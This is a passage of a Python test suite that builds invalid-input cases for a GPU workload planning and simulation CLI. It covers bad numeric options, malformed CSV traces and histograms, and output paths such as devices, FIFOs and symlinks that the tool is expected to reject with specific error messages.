        "rate-too-low": (["--rate", "1e-300", "--requests", "20"], "beyond"),
        "seed-negative": (["--rate", "1", "--seed", "-1"], "--seed"),
        "max-num-seqs-zero": (["--rate", "1", "--max-num-seqs", "0"], "--max-num-seqs"),
        "max-batched-tokens-zero": (["--rate", "1", "--max-batched-tokens", "0"], "--max-batched-tokens"),
        "max-batched-tokens-huge": (["--rate", "1", "--max-batched-tokens", str(10**15)], "--max-batched-tokens"),
        "tp-zero": (["--rate", "1", "--tp", "0"], "--tp"), "input-huge": (["--rate", "1", "--input", str(10**20)],
                                                                      "--input"),
        "range-ratio-nan": (["--rate", "1", "--input-range-ratio", "nan"], "--input-range-ratio"),
        "concurrency-huge": (["--concurrency", str(10**12)], "--concurrency"),
        "requests-huge": (["--rate", "1", "--requests", str(10**12)], "--requests"),
    }
    cases = [Case(f"simulate-{name}", [*SIM, *argv, *JSON_OUT], 2, needle) for name, (argv, needle) in options.items()]
    traces = {
        "utf16": (TRACE.encode("utf-16"), "UTF-16"), "latin1": (b"arrival_s,note\n0,caf\xe9\n", "not UTF-8"),
        "binary": (bytes(range(256)), "not UTF-8"), "huge-field": (b"arrival_s\n" + b"1" * 300_000 + b"\n",
                                                                   "not a readable CSV"),
        "arrival-1e308": (TRACE.replace("1.9,100", "1e308,100").encode(), "beyond"),
        "tokens-huge": (TRACE.replace("0.0,100", f"0.0,{10**20}").encode(), "input_tokens"),
        "longer-row": (b"arrival_s,input_tokens\n0,10,20,30\n", "more cells than header"),
        "column-twice": (b"arrival_s,arrival_s\n0,1\n1,0\n", "given twice"),
        "unsorted": (TRACE.replace("0.5,100", "0.05,100").encode(), "sorted"),
        "header-only": (b"arrival_s\n", "no rows"),
        # a misspelt length column was ignored: every request got --input's length
        "misspelt-column": (TRACE.replace("input_tokens", "input_token").encode(), "unknown column 'input_token'"),
        # an open quote swallowed every later row, and Python reads Arabic-Indic digits as numbers
        "unterminated-quote": (b'arrival_s\n"0\n1\n', "unexpected end of data"),
        # a blank line shifted every later "row N" in errors by one
        "blank-line-between-rows": (b"arrival_s\n0\n\n1\nxyz\n", "line 4: a blank line"),
        "arabic-indic-digits": (TRACE.replace("0.0,100", "0.0,\u0661\u0660\u0660").encode(), "not a number"),
    }
    for name, (content, needle) in traces.items():
        cases.append(Case(f"simulate-trace-{name}", [*SIM, "--trace", "{d}/t.csv", *JSON_OUT], 2, needle,
                          {"t.csv": content}))
    for argv, path, cmd in ((SIM, "/dev/zero", "trace"), (run, "{d}/fifo", "lengths")):
        cases.append(Case(f"simulate-{cmd}-{Path(path).name}", [*argv, f"--{cmd}", path, *JSON_OUT], 2,
                          "not a regular file", setup=lambda d: __import__("os").mkfifo(d / "fifo")))
    histograms = {"utf16": (HISTOGRAM.encode("utf-16"), "UTF-16"),
                  "sum-0.9": (HISTOGRAM.replace("0.5\n200", "0.4\n200").encode(), "sum to"),
                  "column-twice": (HISTOGRAM.replace("probability", "probability,probability").encode(), "twice"),
                  "extra-column": (HISTOGRAM.replace("probability", "probabilty").encode(), "column")}
    for name, (content, needle) in histograms.items():
        cases.append(Case(f"simulate-lengths-{name}", [*run, "--lengths", "{d}/l.csv", *JSON_OUT], 2, needle,
                          {"l.csv": content}))
    bom = b"\xef\xbb\xbf"
    cases += [Case("simulate-trace-bom-accepted", [*SIM, "--trace", "{d}/t.csv", *JSON_OUT], 0, "",
                   {"t.csv": bom + TRACE.replace("\n", "\r\n").encode()}, outputs=("out.json",)),
              Case("simulate-lengths-bom-accepted", [*run, "--lengths", "{d}/l.csv", *JSON_OUT], 0, "",
                   {"l.csv": bom + HISTOGRAM.encode()}, outputs=("out.json",))]
    return cases


def _targets() -> list[Case]:
    """-o targets that must not be written: devices, symlinks, folders, FIFOs, impossible names."""
    cmd = ["models", "--format", "json", "-o"]
    return [
        Case("output-dev-null", [*cmd, "/dev/null"], 2, "not a regular file"),
        Case("output-existing-folder", [*cmd, "{d}/dir"], 2, "is a folder", setup=lambda d: (d / "dir").mkdir()),
        Case("output-symlink", [*cmd, "{d}/link.json"], 2, "symbolic link",
             setup=lambda d: (d / "link.json").symlink_to(d / "real.json")),
        Case("output-dangling-symlink-to-etc", [*cmd, "{d}/link2.json"], 2, "symbolic link",
             setup=lambda d: (d / "link2.json").symlink_to("/etc/gpuplan-should-never-exist")),
        Case("output-fifo", [*cmd, "{d}/fifo"], 2, "not a regular file",
             setup=lambda d: __import__("os").mkfifo(d / "fifo")),
        Case("output-parent-is-file", [*cmd, "{d}/file.txt/out.json"], 2, "Not a directory",
             setup=lambda d: (d / "file.txt").write_text("x")),
        Case("output-name-too-long", [*cmd, "{d}/" + "x" * 300 + ".json"], 2, "too long"),
        Case("output-folder-slash-on-file", [*cmd, "{d}/file.txt/"], 2, "not a folder",
             setup=lambda d: (d / "file.txt").write_text("x")),
        Case("output-plot-dev-null", ["sweep", "{d}/w.yaml", "--vary", "rate_rps=1", "--plot", "/dev/null"], 2,
             "not a regular file", {"w.yaml": _yaml(BASE)}),
        Case("output-plan-folder-is-file", ["plan", "{d}/w.yaml", "-o", "{d}/file.txt"], 2, "not a folder",
             {"w.yaml": _yaml(BASE)}, setup=lambda d: (d / "file.txt").write_text("x")),
        Case("output-trailing-slash-folder", [*cmd, "{d}/new/"], 0, "", outputs=("new/models.json",)),
    ]


def cases() -> list[Case]:
    out: list[Case] = []
    for name, path, value, needle in BAD_VALUES:
        data = _with(path, value)
        if path == "w.rate_profile":
            data["workloads"][0].pop("rate_rps")
        content = _yaml(data)
        # every value through plan; the first twenty through all four workload commands
        out += _workload_commands(name, content, needle) if len(out) < 80 else \
            [Case(f"plan-{name}", ["plan", "{d}/w.yaml", *JSON_OUT], 2, needle, {"w.yaml": content})]
    for name, content, needle in BAD_FILES:
        out += _workload_commands(name, content, needle)[:2]
    return [*out, *_paths(), *_profile_csvs(), *_tables(), *_configs(), *_options(), *_measurements(), *_targets(),
            *_simulate()]
